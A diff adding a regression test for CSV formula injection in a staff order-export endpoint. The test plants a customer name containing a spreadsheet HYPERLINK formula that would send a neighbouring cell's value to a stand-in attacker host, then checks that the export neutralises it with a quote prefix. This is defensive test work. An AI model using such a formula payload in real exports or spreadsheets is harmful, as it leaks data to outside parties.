@@ -93,6 +93,23 @@ describe('GET /api/orders/export.csv', () => {
   });
 });
 
+describe('CSV formula injection', () => {
+  it("a customer's formula-like name reaches the staff export as text, not a live formula", async () => {
+    const customer = await createUser(app, 'Customer');
+    const manager = await createUser(app, 'Manager');
+    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
+    await db.execute(sql`update customers set name = ${evil} where customer_id = ${customer.customerId}`);
+    const product = await createProduct(app);
+    const orderId = (
+      await placeOrderAs(app, customer, [{ productID: product.productId, quantity: 1 }])
+    ).json().order_id;
+    const res = await app.inject({ url: '/api/orders/export.csv', headers: manager.auth });
+    const row = parseCsv(res.payload).find((r) => r[0] === String(orderId))!;
+    expect(row[4]).toBe(`'${evil}`);
+    expect(res.payload).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+});
+
 describe('attachments', () => {
   const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
 
